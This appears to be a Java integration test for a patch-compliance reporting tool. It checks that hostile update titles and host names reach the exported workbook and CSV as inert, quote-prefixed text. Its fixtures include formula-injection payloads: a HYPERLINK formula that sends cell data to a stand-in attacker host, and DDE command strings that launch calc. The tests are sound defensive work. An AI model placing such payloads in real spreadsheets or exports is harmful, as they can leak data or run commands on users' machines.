package io.patchproof.cli;

import static io.patchproof.testsupport.SiteDatabaseBuilder.aSiteDatabase;
import static org.assertj.core.api.Assertions.assertThat;

import io.patchproof.demo.DemoSiteDatabase;
import io.patchproof.testsupport.Cli;
import io.patchproof.testsupport.FindingsCsv;
import io.patchproof.testsupport.ReportJson;
import io.patchproof.testsupport.SiteDatabaseBuilder;
import io.patchproof.testsupport.TestWorkbook;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile text end to end: update titles and host names that start like a formula or with a
 * control character, non-BMP, right-to-left and combining characters, and a title longer than a
 * cell can hold, read from a site database and published through the command line. The workbook
 * holds them as inert text (no formula element anywhere, quote-prefixed where a spreadsheet
 * would evaluate them), round-trips every character it can hold (control characters and
 * U+FFFE/U+FFFF through Excel's {@code _xHHHH_} escape, a literal {@code _x0041_} as itself),
 * replaces NUL visibly and marks truncation; the CSV keeps the text as is behind a leading {@code '} where design.md asks.
 */
class HostileTextIntegrationTests {

    static final String STEM = "monthly-PP1-" + DemoSiteDatabase.AS_OF;
    static final String LONG_TITLE = "Long title " + "ab".repeat(20_000) + " \uD83D\uDE00 end";

    static final List<String> TITLES = List.of(
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
            "+cmd|' /C calc'!A0",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1 behind a tab",
            "\r=1+1 behind a carriage return",
            "\u0000=1+1 behind a NUL",
            " =1+1 behind a blank",
            "\uFF1D1+1 full-width equals sign",
            "Update \uD835\uDD18\uD835\uDD2D\uD835\uDD21 \uD83D\uDE00 outside the BMP",
            "\u202E\u062A\u062D\u062F\u064A\u062B \u0623\u0645\u0646\u064A\u202C for Windows (right to left)",
            "Mise a\u0300 jour cumulative \u2014 Cafe\u0301 \u0915\u094D\u0937 (combining)",
            "Line one\r\nline two, with \"quotes\"",
            "Literal _x0041_ stays literal",
            "Controls \u0001 \u000B \u000C \u001F and noncharacters \uFFFE \uFFFF read back exactly",
            "\u001F=1+1 behind a unit separator, then _x0041_ and _x005F_",
            LONG_TITLE);

    static final List<String> HOSTS = List.of(
            "=HOST()", "+SRV01", "-SRV02", "@SRV03", "\tSRV04", "\rSRV05", "\u0000SRV06",
            "\u05E9\u05E8\u05EA-07", "SRV-\uD840\uDC00-08", "SRVE\u0301-09", "\u000BSRV10", "SRV\uFFFF-11");

    @TempDir
    static Path dir;

    static Cli cli;
    static FindingsCsv csv;
    static Map<String, Object> manifest;

    @BeforeAll
    static void publishHostileText() throws Exception {
        SiteDatabaseBuilder site = aSiteDatabase(dir).withLongTitles();
        LocalDateTime bootedBeforeRelease = LocalDateTime.of(2026, 10, 10, 3, 0);
        // Installed, waiting for a restart that never came (state 9): NOT_IN_EFFECT by rule 4.
        LocalDateTime waitingSince = LocalDateTime.of(2026, 10, 16, 1, 0);
        site.update(1, "5066001", "2026-10 Cumulative Update for Windows Server 2022").add();
        site.host(1, "PLAIN-01").bootLocal(bootedBeforeRelease).add();
        for (int i = 0; i < TITLES.size(); i++) {
            site.update(10 + i, Integer.toString(5066100 + i), TITLES.get(i)).add();
            site.compliance(1, 10 + i).status(2).enforcement(9, waitingSince).add();
        }
        for (int i = 0; i < HOSTS.size(); i++) {
            site.host(100 + i, HOSTS.get(i)).bootLocal(bootedBeforeRelease).add();
            site.compliance(100 + i, 1).status(2).enforcement(9, waitingSince).add();
        }
        String url = site.build();
        cli = new Cli(dir.resolve("work"), dir.resolve("demo"));
        Cli.Result result = cli.run("run", "--patchproof.source.url=" + url, "--patchproof.as-of=" + DemoSiteDatabase.AS_OF);
        assertThat(result.exitCode()).as(result.toString()).isZero();
        csv = FindingsCsv.read(cli.output().resolve(STEM + ".findings.csv"));
        manifest = ReportJson.object(ReportJson.parse(Files.readString(cli.output().resolve(STEM + ".manifest.json"))));
        assertThat(csv.column("verdict")).as("every pair lands on the Not in effect sheet").containsOnly("NOT_IN_EFFECT")
                .hasSize(TITLES.size() + HOSTS.size());
    }

    @Test
    void noWorksheetHoldsAFormula() {
        try (TestWorkbook workbook = TestWorkbook.open(cli.output().resolve(STEM + ".xlsx"))) {
            Map<String, String> sheets = workbook.worksheetXml();
            assertThat(sheets).isNotEmpty();
            sheets.forEach((part, xml) -> assertThat(xml).as(part).doesNotContain("<f>").doesNotContain("<f ")
                    .doesNotContain(":f>").doesNotContain(":f "));
            for (Row row : workbook.sheet("Not in effect")) {
                for (Cell cell : row) {
                    assertThat(cell.getCellType()).as("Not in effect!%s", cell.getAddress()).isNotEqualTo(CellType.FORMULA);
                }
            }
        }
    }

    @Test
    void everyTitleAndHostNameReadsBackAsWrittenOrVisiblyMarked() {
        try (TestWorkbook workbook = TestWorkbook.open(cli.output().resolve(STEM + ".xlsx"))) {
            Map<String, Cell> cells = textCells(workbook, "Not in effect");
            List<String> originals = new ArrayList<>(HOSTS);
            TITLES.stream().filter(t -> t != LONG_TITLE).forEach(originals::add);
            for (String original : originals) {
                String written = original.replace('\u0000', '\uFFFD');
                assertThat(cells).as("exact round trip of %s; only NUL, which no cell can hold, becomes U+FFFD",
                        original.codePoints().limit(12).mapToObj(Integer::toHexString).toList()).containsKey(written);
                if (startsLikeAFormula(original)) {
                    assertThat(cells.get(written).getCellStyle().getQuotePrefixed())
                            .as("quote prefix on Not in effect!%s", cells.get(written).getAddress()).isTrue();
                }
            }
            assertThat(((Number) ReportJson.object(manifest.get("workbook")).get("replacedCharacters")).longValue())
                    .as("NULs replaced, counted in the manifest").isPositive();
        }
    }

    @Test
    void textLongerThanACellIsCutVisiblyWithTheFullTextsHash() throws Exception {
        String hash = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(LONG_TITLE.getBytes(StandardCharsets.UTF_8)));
        try (TestWorkbook workbook = TestWorkbook.open(cli.output().resolve(STEM + ".xlsx"))) {
            for (String sheet : List.of("Not in effect", "Updates")) {
                String cut = textCells(workbook, sheet).keySet().stream().filter(t -> t.startsWith("Long title ")).findFirst()
                        .orElseThrow();
                assertThat(cut).as(sheet).hasSizeLessThanOrEqualTo(32_767)
                        .endsWith("[truncated, " + LONG_TITLE.length() + " chars, sha256 " + hash + "]");
                assertThat(LONG_TITLE).startsWith(cut.substring(0, cut.indexOf("\u2026 [truncated")));
            }
        }
        assertThat(((Number) ReportJson.object(manifest.get("workbook")).get("truncatedCells")).longValue()).isPositive();
        assertThat(csv.column("title")).as("the CSV keeps the whole text").contains(LONG_TITLE);
    }

    @Test
    void theCsvKeepsTheTextBehindAQuoteWhereASpreadsheetWouldEvaluateIt() {
        Map<String, String> expected = new HashMap<>();
        for (String text : TITLES) {
            expected.put(text, csvText(text));
        }
        assertThat(csv.column("title")).filteredOn(t -> !t.startsWith("2026-10 Cumulative"))
                .containsExactlyInAnyOrderElementsOf(expected.values());
        List<String> hosts = new ArrayList<>();
        HOSTS.forEach(h -> hosts.add(csvText(h)));
        assertThat(csv.column("host")).filteredOn(h -> !h.equals("PLAIN-01")).containsExactlyInAnyOrderElementsOf(hosts);
        assertThat(csv.column("title")).contains("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'\u0000=1+1 behind a NUL",
                "'\r=1+1 behind a carriage return", " =1+1 behind a blank", "Line one\r\nline two, with \"quotes\"");
    }

    /** design.md: text that starts with = + - @, tab or CR gets a leading ' (NUL too, as OWASP asks). */
    static String csvText(String text) {
        return "=+-@\t\r\u0000".indexOf(text.charAt(0)) >= 0 ? "'" + text : text;
    }

    /** design.md: a leading = + - @ (also behind blanks, also full-width) or control character. */
    static boolean startsLikeAFormula(String text) {
        String trimmed = text.stripLeading();
        return Character.isISOControl(text.charAt(0))
                || !trimmed.isEmpty() && "=+-@\uFF1D\uFF0B\uFF0D\uFF20".indexOf(trimmed.charAt(0)) >= 0;
    }

    static Map<String, Cell> textCells(TestWorkbook workbook, String sheet) {
        Map<String, Cell> cells = new HashMap<>();
        for (Row row : workbook.sheet(sheet)) {
            for (Cell cell : row) {
                if (cell.getCellType() == CellType.STRING) {
                    cells.putIfAbsent(cell.getStringCellValue(), cell);
                }
            }
        }
        return cells;
    }
}
